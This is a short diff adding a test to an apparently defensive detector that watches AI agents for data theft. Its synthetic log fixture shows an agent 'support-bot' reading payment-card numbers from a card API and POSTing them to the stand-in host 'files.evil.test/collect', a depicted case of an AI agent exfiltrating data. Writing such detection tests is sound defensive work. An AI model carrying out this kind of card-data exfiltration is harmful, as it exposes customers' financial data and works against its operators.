@@ -125,3 +125,13 @@ test('an agent that asks its model shows it what it read; only the worst class o
   expect((await detect(asked('Where-is-my-parcel-81ab20cd'))).findings).toEqual([]);
   expect((await detect(asked('4929fk7714xx2203'))).findings).toMatchObject([{ severity: 'critical', observed: { provenReads: 1 } }]);
 });
+
+test('what one agent sends in runs that its model’s key opened, and in others, is one finding of that agent', async () => {
+  const run = (minute: number, value: string, opened: string): string => `
+    00:0${String(minute)}:00  ${opened}          POST  models.test/v1/chat/completions  200  in=har.har cred=key-llm trace=r${String(minute)}
+    00:0${String(minute)}:02  agent:support-bot  GET   api.acme.test/v1/cards/c${value} 200  in=har.har tpl=/v1/cards/{id} s=3 types=payment-card trace=r${String(minute)} => $.number=${value}
+    00:0${String(minute)}:04  agent:support-bot  POST  files.evil.test/collect          200  in=har.har bytes=640 trace=r${String(minute)} <= $.a=${value}`;
+  const { findings } = await detect(run(1, '4929fk7714xx2203', 'agent:model') + run(3, '5212zz8830qq1199', 'agent:support-bot'));
+  const sent = findings.filter(({ observed }) => observed['receiver'] === 'files.evil.test');
+  expect(sent).toMatchObject([{ principals: ['p-support-bot'], observed: { sends: 2, provenValues: 2 } }]);
+});
